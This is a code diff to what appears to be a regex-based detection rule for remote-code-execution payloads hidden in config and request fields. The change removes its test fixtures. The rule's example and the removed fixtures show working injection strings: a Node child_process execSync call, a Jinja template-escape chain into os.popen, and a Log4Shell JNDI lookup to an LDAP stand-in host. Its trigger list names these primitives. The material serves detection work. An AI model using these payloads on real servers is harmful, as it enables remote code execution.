@@ -11,18 +11,6 @@ export const rceCodeInDataRule = defineRegexRule({
     rationale:
       'Config and request fields that a server evaluates (function bodies, templates, expressions) carrying child_process/os.system calls, template-engine escapes or JNDI lookups are remote-code-execution payloads.',
     example: '{"overrideConfig": {"javascriptFunction": "return require(\\"child_process\\").execSync(\\"id\\")"}}',
-    fixtures: {
-      positive: [
-        { text: '{"fn": "return require(\\"child_process\\").execSync(\\"whoami\\")"}' },
-        { text: 'name: "{{ self.__init__.__globals__.__builtins__.__import__(\'os\').popen(\'id\').read() }}"' },
-        { text: 'User-Agent: ${jndi:ldap://198.51.100.3/a}' },
-      ],
-      negative: [
-        { path: 'build.js', text: 'const { execSync } = require("child_process");\nexecSync("npm run build");\n' },
-        { text: 'Template: "Hello {{ user.name }}"' },
-        { text: 'Use `${HOME}` in the path.' },
-      ],
-    },
   },
   triggers: ['child_process', '{{', 'jndi', '__import__'],
   patterns: [
